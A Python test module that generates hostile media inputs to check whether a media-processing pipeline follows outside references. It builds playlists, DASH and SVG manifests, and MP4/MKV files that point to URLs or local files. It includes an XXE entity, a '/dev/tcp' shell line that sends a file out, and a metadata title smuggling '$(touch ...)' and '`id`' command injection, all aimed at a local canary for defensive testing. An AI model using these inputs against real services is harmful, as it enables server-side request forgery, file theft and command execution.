"""Files that refer to other files or URLs: playlists named as films, and films that point elsewhere."""

import struct

from tests.media.hostile.containers import FTYP, box, full_box, movie, track
from tests.media.hostile.corpus import DAMAGED, DONE, FILM, MP4, NOT_A_VIDEO, UNDECODABLE, Bait, add, ends

SCRIPTS = {
    "hls": "#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXTINF:4,\n{url}seg.ts\n#EXT-X-ENDLIST\n",
    "hls-with-a-file": "#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXTINF:4,\nfile://{file}\n#EXT-X-ENDLIST\n",
    "hls-with-a-key": '#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXT-X-KEY:METHOD=AES-128,URI="{url}key"\n'
    '#EXT-X-MAP:URI="{file}"\n#EXTINF:4,\nconcat:{file}|{url}seg.ts\n#EXT-X-ENDLIST\n',
    "hls-master": "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{url}media.m3u8\n",
    "hls-in-crlf-with-a-mark": "\ufeff#EXTM3U\r\n#EXT-X-TARGETDURATION:4\r\n#EXTINF:4,\r\n{url}seg.ts\r\n",
    "dash": '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
    'mediaPresentationDuration="PT10S"><Period><AdaptationSet><Representation id="1" bandwidth="1" '
    'mimeType="video/mp4"><BaseURL>{url}seg.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>',
    "dash-with-an-entity": '<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY canary SYSTEM "file://{file}">'
    '<!ENTITY % remote SYSTEM "{url}dtd"> %remote;]><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static">'
    "<Period><AdaptationSet>&canary;</AdaptationSet></Period></MPD>",
    "smooth-streaming": '<SmoothStreamingMedia MajorVersion="2" Duration="1"><StreamIndex Type="video" '
    'Url="{url}seg"><c t="0" d="1"/></StreamIndex></SmoothStreamingMedia>',
    "concat": "ffconcat version 1.0\nfile {url}seg.ts\n",
    "concat-with-a-file": "ffconcat version 1.0\nfile '{file}'\nduration 10\n",
    "sdp": "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {port} RTP/AVP 96\n",
    "rtsp": "RTSPtext\r\nrtsp://127.0.0.1:{port}/film\r\n",
    "svg": '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="320" height="180" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="{url}x.png" width="9" height="9"/>'
    '<image xlink:href="file://{file}" width="9" height="9"/></svg>',
    "image-sequence": "{file}%03d.png\n{url}%03d.png\n",
    "cue-sheet": 'FILE "{file}" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n',
    "winamp-playlist": "[playlist]\nNumberOfEntries=1\nFile1={url}film.mp4\n",
    "asx": '<asx version="3.0"><entry><ref href="{url}film.wmv"/></entry></asx>',
    "real-playlist": "{url}film.rm\n",
    "smil": '<smil><body><video src="{url}film.rm"/></body></smil>',
    "avisynth": 'DirectShowSource("{file}")\n',
    "ffmetadata": ";FFMETADATA1\ntitle={file}\n[CHAPTER]\nSTART=0\nEND=1\n",
    "xbin-of-shell": "#!/bin/sh\ncat {file} >/dev/tcp/127.0.0.1/{port}\n",
}
for _name, _text in SCRIPTS.items():
    add(
        _name,
        lambda bait, text=_text: text.format(
            url=bait.url, file=bait.file, port=bait.url.rsplit(":", 1)[1].strip("/")
        ).encode(),
        NOT_A_VIDEO,
    )


@ends(UNDECODABLE)
def a_playlist_after_the_head_of_a_film(bait: Bait) -> bytes:
    return FTYP + box(b"free", SCRIPTS["hls"].format(url=bait.url).encode())


@ends(DAMAGED, DONE)
def a_playlist_after_a_film(bait: Bait) -> bytes:
    return bait.clip("ts") + SCRIPTS["hls"].format(url=bait.url).encode() * 100


@ends(DAMAGED)
def a_movie_whose_frames_lie_at_an_address(bait: Bait) -> bytes:
    return FTYP + movie(track(b"avc1", dref=full_box(b"url ", bait.url.encode() + b"film.mp4\0")))


@ends(DAMAGED)
def a_movie_whose_frames_lie_in_a_file(bait: Bait) -> bytes:
    return FTYP + movie(track(b"rpza", dref=full_box(b"url ", b"file://%s\0" % bytes(bait.file))))


@ends(DAMAGED)
def a_movie_whose_frames_lie_in_an_alias(bait: Bait) -> bytes:
    path = bytes(bait.file)
    name = bait.file.name.encode()
    alias = struct.pack(">4xHH", 150 + 4 + len(path), 2) + struct.pack(">H", 0) + bytes(28) + bytes(12)
    alias += (
        bytes([len(name)]) + name[:63].ljust(63, b"\0") + bytes(16) + struct.pack(">HH", 1, 1) + bytes(16)
    )
    padded = path + b"\0" * (len(path) % 2)
    alias += struct.pack(">hH", 2, len(path)) + padded + struct.pack(">hH", 18, len(path)) + padded
    return FTYP + movie(track(b"rpza", dref=full_box(b"alis", alias + struct.pack(">hH", -1, 0))))


@ends(DAMAGED)
def a_movie_that_refers_to_another(bait: Bait) -> bytes:
    reference = full_box(b"rdrf", b"url ", struct.pack(">I", len(bait.url)), bait.url.encode())
    return FTYP + box(b"moov", box(b"rmra", box(b"rmda", reference)))


@ends(DONE)
def a_film_with_attachments_and_linked_chapters(bait: Bait) -> bytes:
    chapters = bait.directory / "chapters.txt"
    chapters.write_text(
        f";FFMETADATA1\ntitle={bait.file}\n[CHAPTER]\nTIMEBASE=1/1\nSTART=0\nEND=1\ntitle={bait.url}\n"
    )
    words = ("-f", "ffmetadata", "-i", str(chapters), "-map_metadata", "2")
    about = ("-metadata:s:t", f"filename={bait.file}", "-metadata:s:t", "mimetype=font/ttf")
    font = ("-attach", str(bait.file), *about)
    return bait.made(*FILM, *words, *MP4, *font, suffix="mkv")


@ends(DONE)
def a_film_whose_subtitles_are_full_of_addresses(bait: Bait) -> bytes:
    script = bait.directory / "script.srt"
    script.write_text(f"1\n00:00:00,000 --> 00:00:01,000\n<img src='{bait.url}'>{{\\fn{bait.file}}}\n")
    return bait.made(*FILM, "-i", str(script), *MP4, "-c:s", "ass", suffix="mkv")


@ends(DONE)
def a_film_whose_tags_are_options_of_filters(bait: Bait) -> bytes:
    nasty = (
        f"x\n#EXT-X-MAP:URI={bait.url}\nmovie={bait.file}[out];in={bait.file},stream=audio%s%n"
        f"'\"\\$(touch {bait.file})`id`"
    )
    of_the_sound = ("-metadata:s:a:0", f"title={nasty}", "-metadata:s:a:0", "language=en;[x]")
    return bait.made(*FILM, *MP4, "-metadata", f"title={nasty}", *of_the_sound, suffix="mkv")
